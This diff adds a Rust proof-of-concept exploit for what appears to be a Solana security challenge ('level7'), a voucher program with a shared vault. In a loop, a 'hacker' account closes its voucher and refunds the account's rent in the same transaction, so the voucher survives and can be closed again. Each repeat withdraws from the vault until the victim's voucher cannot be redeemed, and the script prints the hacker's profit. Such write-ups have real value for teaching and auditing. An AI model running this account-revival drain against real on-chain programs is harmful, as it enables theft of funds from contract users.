@@ -0,0 +1,162 @@
+use owo_colors::OwoColorize;
+
+use actors::Actors;
+use dryrun::RemoteEnvironment;
+
+use poc_framework::{
+    Environment,
+    solana_program::{
+        pubkey::Pubkey,
+        instruction::{AccountMeta, Instruction},
+        native_token::LAMPORTS_PER_SOL,
+        system_instruction,
+    },
+    solana_sdk::{
+        system_program,
+        signature::{read_keypair_file, Keypair, Signer},
+    },
+};
+
+use borsh::{BorshSerialize, BorshDeserialize};
+
+#[derive(Debug, BorshDeserialize, BorshSerialize)]
+pub enum VoucherInstruction {
+    Initialize,
+    Issue { amount: u64 },
+    Close,
+}
+// We use the same Structure created in the Smart Contract
+#[repr(C)]
+#[derive(Clone, Copy, Debug, Default, PartialEq, BorshSerialize, BorshDeserialize)]
+pub struct Voucher {
+    pub vault: Pubkey,
+    pub holder: Pubkey,
+    pub amount: u64,
+}
+
+pub const VOUCHER_LEN: u64 = 32 + 32 + 8;
+
+fn issue(programa: Pubkey, vault: Pubkey, admin: Pubkey, voucher: Pubkey, holder: Pubkey, amount: u64) -> Instruction {
+    Instruction {
+        program_id: programa,
+        accounts: vec![
+            AccountMeta::new(vault, false),
+            AccountMeta::new(voucher, false),
+            AccountMeta::new(admin, true),
+            AccountMeta::new_readonly(holder, false),
+            AccountMeta::new_readonly(system_program::id(), false),
+        ],
+        data: VoucherInstruction::Issue { amount }.try_to_vec().unwrap(),
+    }
+}
+
+fn close(programa: Pubkey, vault: Pubkey, voucher: Pubkey, holder: Pubkey) -> Instruction {
+    Instruction {
+        program_id: programa,
+        accounts: vec![
+            AccountMeta::new(vault, false),
+            AccountMeta::new(voucher, false),
+            AccountMeta::new(holder, true),
+        ],
+        data: VoucherInstruction::Close.try_to_vec().unwrap(),
+    }
+}
+
+pub fn main() {
+    let programa_keypair = read_keypair_file("./target/so/level7-keypair.json").unwrap();
+    let programa = programa_keypair.pubkey();
+    let cliente1 = dryrun::client();
+
+    let mut actors = Actors::new();
+    let admin = actors.get("admin");
+    let hacker = actors.get("hacker");
+    let victim = actors.get("victim");
+    let hacker_voucher = Keypair::new();
+    actors.label(hacker_voucher.pubkey(), "level7_hacker_voucher");
+    let victim_voucher = Keypair::new();
+    actors.label(victim_voucher.pubkey(), "level7_victim_voucher");
+
+    let (vault, _) = Pubkey::find_program_address(&[&"VAULT".as_bytes()], &programa);
+
+    let mut env = RemoteEnvironment::new_with_airdrop(cliente1, actors.get("admin"), 10000000000);
+    println!("{}", actors.legend().blue());
+    env.airdrop(hacker.pubkey(), LAMPORTS_PER_SOL);
+
+    /* First the admin creates the vault and issues 5 SOL to the victim and 1 SOL to us */
+    env.execute_as_transaction(
+        &[Instruction {
+            program_id: programa,
+            accounts: vec![
+                AccountMeta::new(vault, false),
+                AccountMeta::new(admin.pubkey(), true),
+                AccountMeta::new_readonly(poc_framework::solana_program::sysvar::rent::id(), false),
+                AccountMeta::new_readonly(system_program::id(), false),
+            ],
+            data: VoucherInstruction::Initialize.try_to_vec().unwrap(),
+        }],
+        &[&admin],
+    );
+    env.create_account_rent_excempt(&victim_voucher, VOUCHER_LEN as usize, programa);
+    env.create_account_rent_excempt(&hacker_voucher, VOUCHER_LEN as usize, programa);
+    env.execute_as_transaction(
+        &[
+            issue(programa, vault, admin.pubkey(), victim_voucher.pubkey(), victim.pubkey(), 5 * LAMPORTS_PER_SOL),
+            issue(programa, vault, admin.pubkey(), hacker_voucher.pubkey(), hacker.pubkey(), LAMPORTS_PER_SOL),
+        ],
+        &[&admin],
+    );
+
+    println!("");
+    println!("{}", "********************************************".bright_blue().bold());
+    println!("{}", "*                 INITIALIZING             *".bright_blue().bold());
+    println!("{}", "********************************************".bright_blue().bold());
+    println!("");
+    println!("{} {:?}", "Victim voucher: ".bold().blue(),
+    env.get_deserialized_account::<Voucher>(victim_voucher.pubkey()).unwrap().blue());
+    println!("{} {:?}", "Hacker voucher: ".bold().blue(),
+    env.get_deserialized_account::<Voucher>(hacker_voucher.pubkey()).unwrap().blue());
+    println!("{} {:?}", "Vault lamports: ".bold().blue(), env.get_account(vault).unwrap().lamports.blue());
+    println!("");
+
+    /*
+    Second we close our voucher and, in the same transaction, send its rent back.
+    The account survives the transaction with the same data, so we can close it again
+    */
+    println!("{}", "********************************************".bright_blue().bold());
+    println!("{}", "*        CLOSE AND REVIVE THE VOUCHER      *".bright_blue().bold());
+    println!("{}", "********************************************".bright_blue().bold());
+    println!("");
+    let hacker_before = env.get_account(hacker.pubkey()).unwrap().lamports;
+    let voucher_rent = env.get_rent_excemption(VOUCHER_LEN as usize);
+    let vault_rent = env.get_rent_excemption(32);
+    while env.get_account(vault).unwrap().lamports >= vault_rent + 2 * LAMPORTS_PER_SOL {
+        env.execute_as_transaction(
+            &[
+                close(programa, vault, hacker_voucher.pubkey(), hacker.pubkey()),
+                system_instruction::transfer(&hacker.pubkey(), &hacker_voucher.pubkey(), voucher_rent),
+            ],
+            &[&hacker],
+        );
+        println!("{} {:?} {} {:?}", "Voucher still there: ".bold().green(),
+        env.get_deserialized_account::<Voucher>(hacker_voucher.pubkey()).unwrap().green(),
+        "Vault lamports: ".bold().green(), env.get_account(vault).unwrap().lamports.green());
+    }
+
+    /* Third we close it for good */
+    env.execute_as_transaction(
+        &[close(programa, vault, hacker_voucher.pubkey(), hacker.pubkey())],
+        &[&hacker],
+    );
+
+    println!("");
+    println!("{}", "********************************************".bright_blue().bold());
+    println!("{}", "*                   RESULT                 *".bright_blue().bold());
+    println!("{}", "********************************************".bright_blue().bold());
+    println!("");
+    println!("{} {:?}", "Hacker voucher: ".bold().red(), env.get_account(hacker_voucher.pubkey()).red());
+    println!("{} {:?}", "Vault lamports (the victim voucher can't be redeemed): ".bold().red(),
+    env.get_account(vault).unwrap().lamports.red());
+    println!("{} {:?}", "Hacker earned: ".bold().green(),
+    (env.get_account(hacker.pubkey()).unwrap().lamports - hacker_before).green());
+    println!("");
+}